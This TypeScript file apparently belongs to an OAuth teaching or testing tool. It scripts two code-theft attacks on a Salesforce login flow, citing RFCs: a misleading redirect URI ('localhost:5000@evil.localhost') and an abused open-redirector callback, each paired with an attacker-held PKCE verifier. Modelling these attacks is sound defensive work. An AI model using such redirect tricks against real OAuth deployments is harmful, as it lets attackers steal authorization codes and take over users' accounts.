import { rfc, type RunSetup } from '@flowscope/reference'
import type { Attack, AttackPhase } from '../attack.ts'
import { parameter, together } from '../edits.ts'
import { withOwnApp } from '../own-app.ts'
import { tokenOpensAccounts } from './evidence.ts'
import { attackersPkce, userFollows, useToken } from './moves.ts'

/** The question was the attacker's, so they know its redirect URI and its verifier. */
function traded(redirectUri: string): AttackPhase {
  return {
    caption: 'The attacker trades the code. The question was theirs, and so is the verifier.',
    moves: [
      {
        type: 'edited',
        step: 'trade',
        edit: together(
          parameter('redirect_uri', redirectUri),
          parameter('code_verifier', attackersPkce.verifier),
        ),
      },
      ...useToken,
    ],
  }
}

/** The lure asks in the web app's name, with an address and a challenge of the attacker's. */
function lured(redirectUri: string): AttackPhase {
  return {
    caption:
      'Sam clicks a link that asks Salesforce in the web app’s name, with another way back and a challenge of the attacker’s.',
    moves: [
      { type: 'act', step: 'register' },
      {
        type: 'edited',
        step: 'lure',
        edit: together(
          parameter('redirect_uri', redirectUri),
          parameter('code_challenge', attackersPkce.challenge),
          parameter('code_challenge_method', 'S256'),
        ),
      },
    ],
  }
}

/** It begins like the registered http://localhost:5000, and leads to evil.localhost. */
const misleading = 'http://localhost:5000@evil.localhost:4000/oauth/callback'

export const looseRedirect: Attack = {
  id: 'looseRedirect',
  title: 'Another redirect URI',
  goal: 'Salesforce sends Sam’s code to the attacker’s site.',
  position:
    'Can write a link that Sam clicks. The address begins like a registered one: everything before the @ is only a user name.',
  sources: [rfc(9700, '4.1'), rfc(6749, '10.6')],
  phases: [
    lured(misleading),
    { caption: 'Sam sees the app’s name, logs in and agrees.', moves: userFollows },
    traded(misleading),
  ],
  evidence: tokenOpensAccounts,
}

const forwarding = 'http://localhost:3000/forward'

export const openRedirector: Attack = {
  ...looseRedirect,
  id: 'openRedirector',
  title: 'A registered address that forwards',
  goal: 'A second callback of the web app hands Sam’s code on to the attacker’s site.',
  position:
    'Has found a registered address of the web app that sends a browser on to wherever state says.',
  sources: [rfc(9700, '4.11.1'), rfc(6749, '10.15')],
  setup: withForwardingCallback,
  phases: [
    lured(forwarding),
    {
      caption: 'Sam agrees; the web app’s own address passes the code on.',
      moves: [...userFollows, { type: 'send', step: 'callback' }],
    },
    traded(forwarding),
  ],
}

function withForwardingCallback(setup: RunSetup): RunSetup {
  const registered = withOwnApp(setup, ({ callbackUrls }) => ({
    callbackUrls: [...callbackUrls, forwarding],
  }))
  const openRedirectorPath = new URL(forwarding).pathname
  return { ...registered, client: { ...setup.client, openRedirectorPath } }
}
